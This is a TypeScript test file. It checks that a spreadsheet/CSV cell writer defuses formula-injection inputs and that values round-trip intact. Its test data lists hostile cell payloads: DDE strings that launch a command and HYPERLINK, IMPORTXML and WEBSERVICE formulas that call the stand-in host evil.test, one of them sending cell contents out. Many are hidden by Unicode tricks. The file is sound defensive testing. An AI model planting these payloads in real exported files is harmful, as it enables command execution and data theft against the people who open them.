import * as fc from "fast-check";
import { expect, it } from "vitest";
import { readCell, writeCell } from "./cells.ts";
import { readMetric, writeMetric } from "./csv.ts";

it.each([
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1)",
  " =1",
  "\u200B=1",
  "\u00A0\uFEFF=1",
  "\t=1",
  "\r=1",
  "＝1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("//evil.test?"&A1,"open")',
  '=IMPORTXML("//evil.test","//a")',
  '=WEBSERVICE("//evil.test")',
  '=DDE("cmd";"/C calc";"x")',
  "= 1+1",
  "+A1",
  "-A1",
  "-1-1",
  "+1+1",
  "--1",
  "@A1",
  "|calc",
  "%0A=1",
  "＋1+1",
  "－1-1",
  "＠SUM(1)",
  "\n=1",
  "\r\n=1",
  " \t\n =1",
  "\u2003+1+1",
  "\u00AD=1",
  "\u200E=1",
  "\u202E=1",
  "\u2060@A1",
  "\u0000=1",
  "\u001F=1",
  "'=1",
  "''=1",
  "-1e5x",
])("defuses %j", (text) => expect(writeCell(text)).toBe(`'${text}`));

it.each(["-5", "+1.5e-3", "Paris", "'tis", "a=b", "1=1"])("leaves %j", (text) =>
  expect(writeCell(text)).toBe(text),
);

it("gives back every text, and never an empty cell", () => {
  const texts = fc.oneof(fc.string({ unit: "binary" }), fc.stringMatching(/^['=\s@1-]*$/));
  fc.assert(
    fc.property(texts, (text) => {
      expect(readCell(writeCell(text))).toBe(text);
      expect(writeCell(text)).not.toBe("");
    }),
    { numRuns: 2_000 },
  );
});

it("gives back every metric: a word that looks like a number stays a word", () => {
  const words = fc.oneof(fc.string({ minLength: 1 }), fc.stringMatching(/^['=\s+0-9x.e-]+$/));
  fc.assert(
    fc.property(
      fc.oneof(
        fc.double({ noNaN: true, noDefaultInfinity: true }).map((value) => value + 0),
        words,
      ),
      (value) => {
        expect(readMetric(String(writeMetric(value)))).toBe(value);
      },
    ),
    { numRuns: 2_000 },
  );
  expect([writeMetric(5), writeMetric("5"), writeMetric("'5"), writeMetric("left")]).toEqual([
    5,
    "'5",
    "''5",
    "left",
  ]);
});
